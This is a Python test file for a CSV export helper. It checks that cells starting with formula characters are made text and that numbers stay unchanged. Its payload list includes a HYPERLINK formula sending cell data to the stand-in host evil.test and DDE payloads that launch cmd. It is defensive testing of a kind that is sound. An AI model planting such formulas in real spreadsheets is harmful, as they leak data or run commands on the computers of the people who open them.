"""CSV formula injection: cells a spreadsheet would run are made text; numbers stay numbers."""

from __future__ import annotations

import pytest

from apps.core.spreadsheet import spreadsheet_cell

# The payloads of issue 20, and one of each starting character OWASP names.
PAYLOADS = [
    '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
    "+",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_becomes_text(payload: str) -> None:
    assert spreadsheet_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["-5.00", "-0.000001", "+12", "12.50", "-1e-05", "", "Unallocated", "nlp=research"]
)
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    assert spreadsheet_cell(value) == value
